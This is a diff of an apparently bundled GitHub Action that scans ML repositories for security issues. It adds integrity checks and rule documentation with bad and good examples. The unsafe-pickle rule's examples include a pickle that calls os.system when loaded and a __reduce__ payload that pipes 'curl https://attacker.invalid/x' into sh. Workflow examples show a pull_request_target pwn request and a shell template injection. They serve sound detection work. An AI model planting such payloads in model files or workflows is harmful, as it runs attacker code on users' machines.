+            ctx.report({ path: sig, ...key, message: `${path} is signed in ${sig} but is not in the checkout; restore it, or re-sign the model directory.` });
+            return;
+        case 'mismatch':
+            ctx.report({ path, ...key, message: `${path} does not match its signed digest in ${sig}${p.range ? ` (bytes ${p.range[0]}–${p.range[1]})` : ''}: ${short(p.actual)} instead of ${short(p.expected)}; re-sign the model if the change is intended, or restore the file.` });
+            return;
+        case 'unsigned': {
+            const model = ctx.files.find((f) => f.path === path)?.kind === 'model' || /\.(pt|pth|bin|pkl|pickle|ckpt|safetensors|gguf|onnx|h5|keras|joblib|npy|npz)$/i.test(path);
+            ctx.report({ path, ...key, severity: model ? 'high' : 'medium', message: `${path} sits in the signed model directory but ${sig} does not list it; re-sign the model directory with it, or remove it.` });
+            return;
+        }
+        case 'too-large':
+            ctx.report({ path, ...key, severity: 'medium', message: `${path} (${p.size} bytes) is larger than the policy's read limit, so its signed digest was not verified; raise limits.max-file-bytes.` });
+    }
+}
+/** The model must be listed in SHA256SUMS beside it, `FILE.sha256` or `FILE.dvc` (data/checksum verifies the hash). */
+async function checkListed(ctx, root, path) {
+    const dir = posix.dirname(path) === '.' ? '' : posix.dirname(path);
+    const base = posix.basename(path);
+    const names = await promises$1.readdir(join(root, dir)).catch(() => []);
+    const rel = (n) => (dir ? `${dir}/${n}` : n);
+    if (names.includes(`${base}.sha256`) || names.includes(`${base}.dvc`))
+        return;
+    for (const n of names.filter((x) => /^sha256sums(\.txt)?$/i.test(x))) {
+        const bytes = await readBounded(join(root, rel(n)), MAX_BUNDLE_BYTES);
+        const entry = bytes && parseSums(bytes.toString('utf8'), rel(n), 'sha256sums').entries.find((e) => e.target === path);
+        if (!entry)
+            continue;
+        // data/checksum reports mismatches; only when it is off does this rule check the hash itself.
+        if (!ctx.policy.rules['data/checksum']?.enabled) {
+            const state = await hashFile(root, path, entry.algo, ctx.policy.limits.maxFileBytes);
+            if (state.kind === 'content' && state.hash !== entry.hash)
+                ctx.report({ path, message: `${path} does not match ${rel(n)}: its SHA-256 is ${short(state.hash)} but the manifest records ${short(entry.hash)}; update the manifest if the change is intended, or restore the file.` });
+        }
+        return;
+    }
+    ctx.report({ path, message: `The policy requires ${path} to be listed in a checksum manifest, but no SHA256SUMS, ${base}.sha256 or ${base}.dvc beside it lists it; add one (sha256sum ${base} > ${base}.sha256).` });
 }
 
 /**
@@ -71326,6 +79732,46 @@ var modelRemoteCode = defineRule({
             'and load the model pinned to a reviewed commit (`revision="<sha>"`).',
         ].join('\n'),
         defaultSeverity: 'high',
+        docs: {
+            examples: {
+                bad: [
+                    {
+                        title: 'auto_map sends AutoModel to Python files shipped with the model',
+                        lang: 'json',
+                        file: 'models/chat/config.json',
+                        code: [
+                            '{',
+                            '  "model_type": "chat-model",',
+                            '  "architectures": ["ChatModelForCausalLM"],',
+                            '  "auto_map": {',
+                            '    "AutoConfig": "configuration_chat.ChatConfig",',
+                            '    "AutoModelForCausalLM": "modeling_chat.ChatModelForCausalLM"',
+                            '  }',
+                            '}',
+                        ].join('\n'),
+                    },
+                ],
+                good: [
+                    {
+                        title: 'An architecture built into the library: no custom code is imported',
+                        lang: 'json',
+                        file: 'models/chat/config.json',
+                        code: [
+                            '{',
+                            '  "model_type": "llama",',
+                            '  "architectures": ["LlamaForCausalLM"],',
+                            '  "hidden_size": 2048,',
+                            '  "num_hidden_layers": 16',
+                            '}',
+                        ].join('\n'),
+                    },
+                ],
+            },
+            references: [
+                { title: 'Transformers: models with custom code (trust_remote_code)', url: 'https://huggingface.co/docs/transformers/custom_models' },
+                { title: 'Hugging Face Hub: security', url: 'https://huggingface.co/docs/hub/security' },
+            ],
+        },
         kinds: ['config', 'dataset', 'text'],
         formats: ['json', 'python'],
         options: { type: 'object', properties: {}, additionalProperties: false },
@@ -73470,6 +81916,68 @@ var modelUnsafePickle = defineRule({
             'add it to the policy: `model/unsafe-pickle: { allow: [mypkg.models.MyClassifier] }`.',
         ].join('\n'),
         defaultSeverity: 'critical',
+        docs: {
+            examples: {
+                bad: [
+                    {
+                        title: 'A protocol-0 pickle is plain text: this one calls os.system("echo pwned") when loaded',
+                        lang: 'text',
+                        file: 'models/model.pkl',
+                        code: [
+                            'cos',
+                            'system',
+                            '(S\'echo pwned\'',
+                            'tR.',
+                        ].join('\n'),
+                    },
+                    {
+                        title: 'How such files are made: any object whose __reduce__ returns a callable',
+                        lang: 'python',
+                        code: [
+                            'class Payload:',
+                            '    def __reduce__(self):',
+                            '        import os',
+                            '        return (os.system, (\'curl https://attacker.invalid/x | sh\',))',
+                            '',
+                            'torch.save({\'state_dict\': weights, \'extra\': Payload()}, \'model.pt\')',
+                        ].join('\n'),
+                    },
+                ],
+                good: [
+                    {
+                        title: 'A pickle of plain data (a dict of numbers) imports nothing',
+                        lang: 'text',
+                        file: 'models/config.pkl',
+                        code: [
+                            '(dp0',
+                            'S\'lr\'',
+                            'p1',
+                            'F0.01',
+                            's.',
+                        ].join('\n'),
+                    },
+                    {
+                        title: 'Weights saved and loaded without unpickling',
+                        lang: 'python',
+                        code: [
+                            'from safetensors.torch import load_file, save_file',
+                            '',
+                            'save_file(model.state_dict(), \'model.safetensors\')',
+                            'model.load_state_dict(load_file(\'model.safetensors\'))',
+                            '# a pickle-based checkpoint you must read: tensors and containers only',
+                            'state = torch.load(\'legacy.pt\', weights_only=True)',
+                        ].join('\n'),
+                    },
+                ],
+            },
+            references: [
+                { title: 'Python documentation: pickle (the security warning)', url: 'https://docs.python.org/3/library/pickle.html' },
+                { title: 'PyTorch documentation: torch.load and weights_only', url: 'https://pytorch.org/docs/stable/generated/torch.load.html' },
+                { title: 'Hugging Face Hub: pickle scanning', url: 'https://huggingface.co/docs/hub/security-pickle' },
+                { title: 'safetensors', url: 'https://huggingface.co/docs/safetensors/index' },
+                { title: 'picklescan (the sample corpus our tests compare with)', url: 'https://github.com/mmaitre314/picklescan' },
+            ],
+        },
         kinds: ['model', 'binary'],
         formats: ['pickle', 'pytorch-zip', 'torch-legacy', 'joblib', 'npy', 'npz', 'zip', 'keras', '7z', 'gzip', 'bzip2', 'xz', 'zstd', 'tar'],
         options: {
@@ -75353,6 +83861,49 @@ var pipelineRemoteCodeLoad = defineRule({
             'map config names to callables with a lookup table instead of `eval`.',
         ].join('\n'),
         defaultSeverity: 'high',
+        docs: {
+            examples: {
+                bad: [
+                    {
+                        title: 'Remote model code and an unpickled download',
+                        lang: 'python',
+                        file: 'src/load.py',
+                        code: [
+                            'from huggingface_hub import hf_hub_download',
+                            'from transformers import AutoModelForCausalLM',
+                            'import torch',
+                            '',
+                            'model = AutoModelForCausalLM.from_pretrained("some-org/chat-model", trust_remote_code=True)',
+                            'state = torch.load(hf_hub_download("some-org/chat-model", "pytorch_model.bin"))',
+                        ].join('\n'),
+                    },
+                ],
+                good: [
+                    {
+                        title: 'A pinned revision, safetensors, and weights_only for a local checkpoint',
+                        lang: 'python',
+                        file: 'src/load.py',
+                        code: [
+                            'from huggingface_hub import hf_hub_download',
+                            'from safetensors.torch import load_file',
+                            'from transformers import AutoModelForCausalLM',
+                            'import torch',
+                            '',
+                            'REVISION = "6c0e4a2b1d9f8e7a6b5c4d3e2f1a0b9c8d7e6f5a"  # reviewed commit of some-org/chat-model',
+                            'model = AutoModelForCausalLM.from_pretrained("some-org/chat-model", revision=REVISION)',
+                            'weights = load_file(hf_hub_download("some-org/chat-model", "model.safetensors", revision=REVISION))',
+                            'state = torch.load("checkpoints/last.pt", weights_only=True)',
+                        ].join('\n'),
+                    },
+                ],
+            },
+            references: [
+                { title: 'PyTorch documentation: torch.load and weights_only', url: 'https://pytorch.org/docs/stable/generated/torch.load.html' },
+                { title: 'CVE-2025-32434: torch.load with weights_only=True could still run code before torch 2.6', url: 'https://nvd.nist.gov/vuln/detail/CVE-2025-32434' },
+                { title: 'Transformers: models with custom code (trust_remote_code)', url: 'https://huggingface.co/docs/transformers/custom_models' },
+                { title: 'PyYAML: yaml.load and safe_load', url: 'https://pyyaml.org/wiki/PyYAMLDocumentation' },
+            ],
+        },
         kinds: ['text', 'dependency'],
         formats: ['python'],
         options: {
@@ -75799,6 +84350,42 @@ var secretAiProviderKey = defineRule({
             '`# ai-gate: ignore[secret/ai-provider-key] reason`.',
         ].join('\n'),
         defaultSeverity: 'critical',
+        docs: {
+            examples: {
+                bad: [
+                    {
+                        title: 'A token pasted into a training script (value elided here)',
+                        lang: 'python',
+                        code: [
+                            'from huggingface_hub import login',
+                            '',
+                            'login(token="hf_…")          # the real 37-character token, committed',
+                            'client = OpenAI(api_key="sk-proj-…")',
+                        ].join('\n'),
+                    },
+                ],
+                good: [
+                    {
+                        title: 'Read at run time from the environment (a CI secret or a local .env kept out of git)',
+                        lang: 'python',
+                        file: 'src/settings.py',
+                        code: [
+                            'import os',
+                            '',
+                            'HF_TOKEN = os.environ["HF_TOKEN"]',
+                            'OPENAI_API_KEY = os.environ.get("OPENAI_API_KEY")',
+                        ].join('\n'),
+                    },
+                ],
+            },
+            references: [
+                { title: 'Hugging Face: user access tokens', url: 'https://huggingface.co/docs/hub/security-tokens' },
+                { title: 'OpenAI: best practices for API key safety', url: 'https://help.openai.com/en/articles/5112595-best-practices-for-api-key-safety' },
+                { title: 'GitHub Docs: about secret scanning', url: 'https://docs.github.com/en/code-security/secret-scanning/introduction/about-secret-scanning' },
+                { title: 'GitHub Docs: removing sensitive data from a repository', url: 'https://docs.github.com/en/authentication/keeping-your-account-and-data-secure/removing-sensitive-data-from-a-repository' },
+                { title: 'gitleaks (the rule samples our tests compare with)', url: 'https://github.com/gitleaks/gitleaks' },
+            ],
+        },
         kinds: SECRET_KINDS,
         options: familyOptionsSchema('ai-provider'),
         defaultOptions: { exclude: [] },
@@ -75827,6 +84414,43 @@ var secretCloudCredential = defineRule({
             'time. A detector can be turned off with `exclude: [detector-id]`.',
         ].join('\n'),
         defaultSeverity: 'critical',
+        docs: {
+            examples: {
+                bad: [
+                    {
+                        title: 'Static cloud keys in an upload script (values elided here)',
+                        lang: 'python',
+                        code: [
+                            's3 = boto3.client(',
+                            '    "s3",',
+                            '    aws_access_key_id="AKIA…",          # the real key id, committed',
+                            '    aws_secret_access_key="…",',
+                            ')',
+                        ].join('\n'),
+                    },
+                ],
+                good: [
+                    {
+                        title: 'The SDK finds credentials itself (OIDC in CI, a profile or instance role elsewhere)',
+                        lang: 'python',
+                        file: 'scripts/upload.py',
+                        code: [
+                            'import boto3',
+                            '',
+                            's3 = boto3.client("s3")',
+                            's3.upload_file("model.safetensors", "acme-models", "sentiment/model.safetensors")',
+                        ].join('\n'),
+                    },
+                ],
+            },
+            references: [
+                { title: 'AWS: managing access keys (and preferring temporary credentials)', url: 'https://docs.aws.amazon.com/IAM/latest/UserGuide/id_credentials_access-keys.html' },
+                { title: 'GitHub Docs: OpenID Connect in cloud providers', url: 'https://docs.github.com/en/actions/security-for-github-actions/security-hardening-your-deployments/about-security-hardening-with-openid-connect' },
+                { title: 'GitHub Docs: about secret scanning', url: 'https://docs.github.com/en/code-security/secret-scanning/introduction/about-secret-scanning' },
+                { title: 'GitHub Docs: removing sensitive data from a repository', url: 'https://docs.github.com/en/authentication/keeping-your-account-and-data-secure/removing-sensitive-data-from-a-repository' },
+                { title: 'gitleaks (the rule samples our tests compare with)', url: 'https://github.com/gitleaks/gitleaks' },
+            ],
+        },
         kinds: SECRET_KINDS,
         options: familyOptionsSchema('cloud'),
         defaultOptions: { exclude: [] },
@@ -75853,6 +84477,49 @@ var secretDevPlatformToken = defineRule({
             '`exclude: [detector-id]`.',
         ].join('\n'),
         defaultSeverity: 'critical',
+        docs: {
+            examples: {
+                bad: [
+                    {
+                        title: 'A personal access token in a workflow (value elided here)',
+                        lang: 'yaml',
+                        code: [
+                            '- run: git push https://x-access-token:ghp_…@github.com/acme/models.git   # the real token, committed',
+                        ].join('\n'),
+                    },
+                ],
+                good: [
+                    {
+                        title: 'The job token, scoped by permissions and gone when the job ends',
+                        lang: 'yaml',
+                        file: '.github/workflows/publish.yml',
+                        code: [
+                            'name: publish',
+                            'on:',
+                            '  push:',
+                            '    tags: ["v*"]',
+                            'permissions: {}',
+                            'jobs:',
+                            '  publish:',
+                            '    runs-on: ubuntu-latest',
+                            '    permissions:',
+                            '      contents: write',
+                            '    steps:',
+                            '      - run: gh release create "$GITHUB_REF_NAME" --generate-notes',
+                            '        env:',
+                            '          GH_TOKEN: ${{ secrets.GITHUB_TOKEN }}',
+                        ].join('\n'),
+                    },
+                ],
+            },
+            references: [
+                { title: 'GitHub Docs: token expiration and revocation', url: 'https://docs.github.com/en/authentication/keeping-your-account-and-data-secure/token-expiration-and-revocation' },
+                { title: 'PyPI: trusted publishers (no long-lived upload token)', url: 'https://docs.pypi.org/trusted-publishers/' },
+                { title: 'GitHub Docs: about secret scanning', url: 'https://docs.github.com/en/code-security/secret-scanning/introduction/about-secret-scanning' },
+                { title: 'GitHub Docs: removing sensitive data from a repository', url: 'https://docs.github.com/en/authentication/keeping-your-account-and-data-secure/removing-sensitive-data-from-a-repository' },
+                { title: 'gitleaks (the rule samples our tests compare with)', url: 'https://github.com/gitleaks/gitleaks' },
+            ],
+        },
         kinds: SECRET_KINDS,
         options: familyOptionsSchema('dev-platform'),
         defaultOptions: { exclude: [] },
@@ -75880,6 +84547,42 @@ var secretGenericCredential = defineRule({
             'with `# ai-gate: ignore[secret/generic-credential] reason`, or add a policy exception for the path.',
         ].join('\n'),
         defaultSeverity: 'high',
+        docs: {
+            examples: {
+                bad: [
+                    {
+                        title: 'A feature-store password in a training config (value elided here)',
+                        lang: 'yaml',
+                        code: [
+                            'feature_store:',
+                            '  host: db.internal',
+                            '  password: "…"   # the real 24-character password, committed',
+                        ].join('\n'),
+                    },
+                ],
+                good: [
+                    {
+                        title: 'The password comes from the environment',
+                        lang: 'python',
+                        file: 'src/tracking.py',
+                        code: [
+                            'import os',
+                            '',
+                            'import mlflow',
+                            '',
+                            'mlflow.set_tracking_uri(os.environ["MLFLOW_TRACKING_URI"])',
+                            'db_password = os.environ["DB_PASSWORD"]',
+                        ].join('\n'),
+                    },
+                ],
+            },
+            references: [
+                { title: 'OWASP: secrets management cheat sheet', url: 'https://cheatsheetseries.owasp.org/cheatsheets/Secrets_Management_Cheat_Sheet.html' },
+                { title: 'GitHub Docs: about secret scanning', url: 'https://docs.github.com/en/code-security/secret-scanning/introduction/about-secret-scanning' },
+                { title: 'GitHub Docs: removing sensitive data from a repository', url: 'https://docs.github.com/en/authentication/keeping-your-account-and-data-secure/removing-sensitive-data-from-a-repository' },
+                { title: 'gitleaks (the rule samples our tests compare with)', url: 'https://github.com/gitleaks/gitleaks' },
+            ],
+        },
         kinds: SECRET_KINDS,
         options: familyOptionsSchema('generic'),
         defaultOptions: { exclude: [] },
@@ -75905,6 +84608,40 @@ var secretPrivateKey = defineRule({
             'being committed.',
         ].join('\n'),
         defaultSeverity: 'critical',
+        docs: {
+            examples: {
+                bad: [
+                    {
+                        title: 'A deploy or signing key committed next to the code',
+                        lang: 'text',
+                        code: [
+                            'deploy/id_ed25519          # an OpenSSH private key file (BEGIN … PRIVATE KEY block)',
+                            'signing/model-signing.pem  # the key that signs released models',
+                        ].join('\n'),
+                    },
+                ],
+                good: [
+                    {
+                        title: 'The key is mounted at run time and only its path is in the repository',
+                        lang: 'python',
+                        file: 'src/sign.py',
+                        code: [
+                            'import os',
+                            '',
+                            'key_path = os.environ["MODEL_SIGNING_KEY_PATH"]   # a secret file mounted by CI',
+                            'with open(key_path, "rb") as f:',
+                            '    signing_key = f.read()',
+                        ].join('\n'),
+                    },
+                ],
+            },
+            references: [
+                { title: 'OpenSSF model signing', url: 'https://github.com/sigstore/model-transparency' },
+                { title: 'GitHub Docs: about secret scanning', url: 'https://docs.github.com/en/code-security/secret-scanning/introduction/about-secret-scanning' },
+                { title: 'GitHub Docs: removing sensitive data from a repository', url: 'https://docs.github.com/en/authentication/keeping-your-account-and-data-secure/removing-sensitive-data-from-a-repository' },
+                { title: 'gitleaks (the rule samples our tests compare with)', url: 'https://github.com/gitleaks/gitleaks' },
+            ],
+        },
         kinds: SECRET_KINDS,
         options: familyOptionsSchema('private-key'),
         defaultOptions: { exclude: [] },
@@ -75970,6 +84707,59 @@ var workflowDangerousTrigger = defineRule({
             'job read them as data, never executing them; or check out the base ref only.',
         ].join('\n'),
         defaultSeverity: 'high',
+        docs: {
+            examples: {
+                bad: [
+                    {
+                        title: 'pull_request_target checks out the PR head and runs its code, with a write token and secrets',
+                        lang: 'yaml',
+                        file: '.github/workflows/pr-build.yml',
+                        code: [
+                            'name: build PR',
+                            'on:',
+                            '  pull_request_target:',
+                            'permissions:',
+                            '  contents: read',
+                            'jobs:',
+                            '  build:',
+                            '    runs-on: ubuntu-latest',
+                            '    steps:',
+                            '      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2',
+                            '        with:',
+                            '          ref: ${{ github.event.pull_request.head.sha }}',
+                            '          persist-credentials: false',
+                            '      - run: pip install -e . && pytest',
+                        ].join('\n'),
+                    },
+                ],
+                good: [
+                    {
+                        title: 'pull_request runs the same build with a read-only token and no secrets for forks',
+                        lang: 'yaml',
+                        file: '.github/workflows/pr-build.yml',
+                        code: [
+                            'name: build PR',
+                            'on:',
+                            '  pull_request:',
+                            'permissions:',
+                            '  contents: read',
+                            'jobs:',
+                            '  build:',
+                            '    runs-on: ubuntu-latest',
+                            '    steps:',
+                            '      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2',
+                            '        with:',
+                            '          persist-credentials: false',
+                            '      - run: pip install -e . && pytest',
+                        ].join('\n'),
+                    },
+                ],
+            },
+            references: [
+                { title: 'GitHub Security Lab: preventing pwn requests', url: 'https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/' },
+                { title: 'zizmor: dangerous-triggers audit', url: 'https://docs.zizmor.sh/audits/#dangerous-triggers' },
+            ],
+        },
         kinds: ['workflow'],
         options: { type: 'object', properties: {}, additionalProperties: false },
         defaultOptions: {},
@@ -76035,6 +84825,54 @@ var workflowExcessivePermissions = defineRule({
             'Scopes listed in `allowWorkflowLevel` may be granted at the workflow level.',
         ].join('\n'),
         defaultSeverity: 'medium',
+        docs: {
+            examples: {
+                bad: [
+                    {
+                        title: 'Every job of the workflow gets a token that can write everything',
+                        lang: 'yaml',
+                        file: '.github/workflows/release.yml',
+                        code: [
+                            'name: release',
+                            'on:',
+                            '  push:',
+                            '    tags: ["v*"]',
+                            'permissions: write-all',
+                            'jobs:',
+                            '  test:',
+                            '    runs-on: ubuntu-latest',
+                            '    steps:',
+                            '      - run: make test',
+                        ].join('\n'),
+                    },
+                ],
+                good: [
+                    {
+                        title: 'Nothing by default; each job asks for what it needs',
+                        lang: 'yaml',
+                        file: '.github/workflows/release.yml',
+                        code: [
+                            'name: release',
+                            'on:',
+                            '  push:',
+                            '    tags: ["v*"]',
+                            'permissions: {}',
+                            'jobs:',
+                            '  test:',
+                            '    runs-on: ubuntu-latest',
+                            '    permissions:',
+                            '      contents: read',
+                            '    steps:',
+                            '      - run: make test',
+                        ].join('\n'),
+                    },
+                ],
+            },
+            references: [
+                { title: 'GitHub Docs: controlling permissions for GITHUB_TOKEN', url: 'https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/controlling-permissions-for-github_token' },
+                { title: 'zizmor: excessive-permissions audit', url: 'https://docs.zizmor.sh/audits/#excessive-permissions' },
+            ],
+        },
         kinds: ['workflow'],
         options: {
             type: 'object',
@@ -76353,6 +85191,61 @@ var workflowTemplateInjection = defineRule({
             'it from `context.payload` in github-script.',
         ].join('\n'),
         defaultSeverity: 'high',
+        docs: {
+            examples: {
+                bad: [
+                    {
+                        title: 'An issue title is pasted into the shell script',
+                        lang: 'yaml',
+                        file: '.github/workflows/triage.yml',
+                        code: [
+                            'name: triage',
+                            'on:',
+                            '  issues:',
+                            '    types: [opened]',
+                            'permissions: {}',
+                            'jobs:',
+                            '  label:',
+                            '    runs-on: ubuntu-latest',
+                            '    permissions:',
+                            '      issues: write',
+                            '    steps:',
+                            '      - run: |',
+                            '          echo "New issue: ${{ github.event.issue.title }}"',
+                        ].join('\n'),
+                    },
+                ],
+                good: [
+                    {
+                        title: 'The title goes through an environment variable and is used quoted',
+                        lang: 'yaml',
+                        file: '.github/workflows/triage.yml',
+                        code: [
+                            'name: triage',
+                            'on:',
+                            '  issues:',
+                            '    types: [opened]',
+                            'permissions: {}',
+                            'jobs:',
+                            '  label:',
+                            '    runs-on: ubuntu-latest',
+                            '    permissions:',
+                            '      issues: write',
+                            '    steps:',
+                            '      - env:',
+                            '          TITLE: ${{ github.event.issue.title }}',
+                            '        run: |',
+                            '          echo "New issue: $TITLE"',
+                        ].join('\n'),
+                    },
+                ],
+            },
+            references: [
+                { title: 'GitHub Docs: script injections', url: 'https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections' },
+                { title: 'zizmor: template-injection audit', url: 'https://docs.zizmor.sh/audits/#template-injection' },
+                { title: 'gha-hazmat (the workflow corpus our tests compare with)', url: 'https://github.com/woodruffw/gha-hazmat' },
+            ],
+        },
         kinds: ['workflow'],
         options: { type: 'object', properties: {}, additionalProperties: false },
         defaultOptions: {},
@@ -76411,6 +85304,52 @@ var workflowUnpinnedAction = defineRule({
             '`allowOwners` (`my-org` or `my-org/repo`).',
         ].join('\n'),
         defaultSeverity: 'medium',
+        docs: {
+            examples: {
+                bad: [
+                    {
+                        title: 'An action pinned by a tag its owner can move',
+                        lang: 'yaml',
+                        file: '.github/workflows/ci.yml',
+                        code: [
+                            'name: ci',
+                            'on: push',
+                            'permissions:',
+                            '  contents: read',
+                            'jobs:',
+                            '  test:',
+                            '    runs-on: ubuntu-latest',
+                            '    steps:',
+                            '      - uses: actions/checkout@v4',
+                            '      - run: make test',
+                        ].join('\n'),
+                    },
+                ],
+                good: [
+                    {
+                        title: 'Pinned by commit SHA, the tag kept as a comment',
+                        lang: 'yaml',
+                        file: '.github/workflows/ci.yml',
+                        code: [
+                            'name: ci',
+                            'on: push',
+                            'permissions:',
+                            '  contents: read',
+                            'jobs:',
+                            '  test:',
+                            '    runs-on: ubuntu-latest',
+                            '    steps:',
+                            '      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2',
+                            '      - run: make test',
+                        ].join('\n'),
+                    },
+                ],
+            },
+            references: [
+                { title: 'GitHub Docs: using third-party actions', url: 'https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#using-third-party-actions' },
+                { title: 'zizmor: unpinned-uses audit', url: 'https://docs.zizmor.sh/audits/#unpinned-uses' },
+            ],
+        },
         kinds: ['workflow'],
         options: {
             type: 'object',
@@ -76477,10 +85416,14 @@ const allRules = [
     dataRowCountChange,
     dataSchema,
     dataSchemaDrift,
+    dataSensitiveUnencrypted,
     dataTriggerTokens,
     depsUnpinned,
     depsVulnerableMlPackage,
+    governanceEvalRegression,
+    governanceModelCard,
     governancePolicyChanged,
+    governanceRequiredReview,
     governanceSymlinkEscape,
     k8sExposedModelServer,
     k8sHostNamespace,
@@ -76493,6 +85436,7 @@ const allRules = [
     k8sServiceAccountToken,
     k8sUnpinnedImage,
     modelGgufTemplate,
+    modelIntegrity,
     modelKerasLambda,
     modelOnnxExternalData,
     modelRemoteCode,
@@ -76531,6 +85475,20 @@ const allRules = [
 async function scan(opts) {
     const started = Date.now();
     const rules = opts.rules ?? allRules;
+    // `--base REF` without a change from the caller (the CLI): the change comes from git, for the run-level rules
+    // that compare base and head (governance/policy-changed); and, as in the action, the change is judged by the
+    // policy at the base unless the user names one.
+    let change = opts.change;
+    let policyText = opts.policyText;
+    if (opts.base && !change) {
+        const gitRoot = resolve$2(opts.cwd, opts.root);
+        const policyPath = policyPathIn(gitRoot, resolve$2(opts.cwd, opts.policyFile ?? DEFAULT_POLICY_FILE));
+        change = await gitChange(gitRoot, opts.base, policyPath);
+        if (!opts.policyExplicit && policyText === undefined) {
+            policyText = (await change.readBase(policyPath, MAX_POLICY_BYTES))?.toString('utf8') ?? null;
+            opts.logger.info(`Judging the change by the policy at ${opts.base} (${policyPath}${policyText === null ? ': none there, so the built-in one' : ''}), as the action does; --policy FILE names another.`);
+        }
+    }
     const policy = await loadPolicy({
         policyFile: opts.policyFile,
         explicit: opts.policyExplicit,
@@ -76538,7 +85496,7 @@ async function scan(opts) {
         rules,
         overrides: { failOn: opts.failOn, scope: opts.scope },
         logger: opts.logger,
-        policyText: opts.policyText,
+        policyText,
     });
     const root = resolve$2(opts.cwd, opts.root);
     // Findings on the policy (an expired exception) must point at it the way every other path is given:
@@ -76556,8 +85514,12 @@ async function scan(opts) {
     // Base versions of changed files, for the rules that compare base and head (data drift): git with --base,
     // else the change's own reader (a PR through the API).
     const baseFiles = base ? await gitBaseFiles(root, base, policy.limits.maxFileBytes)
-        : changes && opts.change ? changeBaseFiles(opts.change, Math.min(policy.limits.maxFileBytes, 256 * 1024 * 1024)) : undefined;
-    const result = await runEngine({ rules, policy, discovery, logger: opts.logger, today, onProgress: opts.onProgress, change: opts.change, baseFiles });
+        : changes && change ? changeBaseFiles(change, Math.min(policy.limits.maxFileBytes, 256 * 1024 * 1024)) : undefined;
+    const result = await runEngine({ rules, policy, discovery, logger: opts.logger, today, onProgress: opts.onProgress, change, baseFiles, shard: opts.shard });
+    const audit = await auditTrail({
+        policy, toolVersion: TOOL_VERSION, ruleIds: rules.map((r) => r.meta.id), verdict: result.verdict,
+        files: opts.shard ? discovery.files.filter((f) => inShard(f.path, opts.shard)) : discovery.files,
+    });
     return {
         tool: { name: TOOL_NAME, version: TOOL_VERSION },
         root: opts.root,
@@ -76568,10 +85530,11 @@ async function scan(opts) {
             failOn: policy.failOn,
             scope: base || changes ? 'changed' : 'all',
             rulesEnabled: rules.filter((r) => policy.rules[r.meta.id]?.enabled).length,
+            ...(policy.report?.conclusionWhenReported === 'neutral' ? { conclusionWhenReported: 'neutral' } : {}),
         },
         base: base ?? (changes ? opts.baseLabel : undefined),
         stats: {
-            filesScanned: discovery.files.length,
+            filesScanned: result.filesScanned,
             bytesScanned: result.bytesScanned,
             filesIgnored: discovery.ignored,
             filesDeleted: discovery.deleted.length,
@@ -76588,6 +85551,40 @@ async function scan(opts) {
             enabled: Boolean(policy.rules[r.meta.id]?.enabled),
         })),
         ...(opts.notes?.length ? { notes: [...opts.notes] } : {}),
+        ...(opts.shard && opts.shard.total > 1 ? { shard: { ...opts.shard } } : {}),
+        audit,
+    };
+}
+const MAX_POLICY_BYTES = 1024 * 1024;
+/** The policy file's path relative to the scanned root, with `/` (as the change lists paths). */
+function policyPathIn(root, abs) {
+    const rel = relative(root, abs);
+    return rel && !rel.startsWith('..') && !isAbsolute(rel) ? rel.split(sep$1).join('/') : DEFAULT_POLICY_FILE;
+}
+/** The change between git `ref` and the working tree below `root`: paths, base blobs (git cat-file) and head files. */
+async function gitChange(root, ref, policyPath) {
+    const sha = await resolveBase(root, ref);
+    const { changed, deleted } = await gitChangedFiles(root, sha);
+    const changes = [
+        ...changed.map((c) => ({ path: c.raw.toString('utf8'), change: c.change, ...(c.previousRaw ? { previousPath: c.previousRaw.toString('utf8') } : {}) })),
+        ...deleted.map((d) => ({ path: d.toString('utf8'), change: 'deleted' })),
+    ];
+    return {
+        ref: sha,
+        policyPath,
+        changes,
+        async readBase(path, maxBytes) {
+            const version = await (await gitBaseFiles(root, sha, maxBytes)).get(path);
+            if (!version)
+                return undefined;
+            try {
+                return await readFile$1(version.absPath);
+            }
+            finally {
+                await version.close();
+            }
+        },
+        readHead: (path, maxBytes) => readLocal(root, path, maxBytes),
     };
 }
 
@@ -76603,8 +85600,17 @@ const logger = {
     debug: debug,
     info: (m) => (/[\r\n]|::/.test(m) ? logUntrusted(m) : info(m)),
     warning: warning,
-    error: error,
+    error: error$4,
 };
+async function scanWorkspace(inputs, client, ev, workspace) {
+    const plan = await planScan({ client, ev, workspace, policyInput: inputs.policy, logger });
+    return scan({
+        root: '.', cwd: workspace, logger, failOn: inputs.failOn, scope: inputs.scope, respectPolicyScope: true,
+        policyFile: plan.policyFile, policyExplicit: plan.policyExplicit, policyText: plan.policyText,
+        changes: plan.changes, base: plan.base, baseLabel: plan.baseLabel, change: plan.change, notes: plan.notes,
+        ...(inputs.shard ? { shard: inputs.shard } : {}),
+    });
+}
 /** The action: inputs → event → policy and change → scan → reports and GitHub surfaces → exit status. */
 async function run() {
     try {
@@ -76624,17 +85630,23 @@ async function run() {
                 ...(process.env.GITHUB_STEP_SUMMARY ? { summary: async (md) => { await summary$1.addRaw(md).write(); } } : {}),
             },
         };
-        const check = await startCheckRun(ctx);
+        // A shard job leaves the check run, comment and verdict to the merge job, which sees every shard.
+        const check = inputs.shard ? {} : await startCheckRun(ctx);
         try {
-            const plan = await planScan({ client, ev, workspace, policyInput: inputs.policy, logger });
-            const report = await scan({
-                root: '.', cwd: workspace, logger, failOn: inputs.failOn, scope: inputs.scope, respectPolicyScope: true,
-                policyFile: plan.policyFile, policyExplicit: plan.policyExplicit, policyText: plan.policyText,
-                changes: plan.changes, base: plan.base, baseLabel: plan.baseLabel, change: plan.change, notes: plan.notes,
-            });
+            const report = inputs.mode === 'merge'
+                ? mergeReports(await readShardReports(workspace, inputs.reports), inputs.failOn)
+                : await scanWorkspace(inputs, client, ev, workspace);
             logUntrusted(toConsole(report, { color: false }));
             await writeFile$1(join(workspace, inputs.sarifFile), `${JSON.stringify(toSarif(report, { srcRoot: workspace }), null, 2)}\n`);
             await writeFile$1(join(workspace, inputs.reportFile), toJson(report));
+            if (inputs.shard) {
+                setOutput('result', report.verdict.passed ? 'pass' : 'fail');
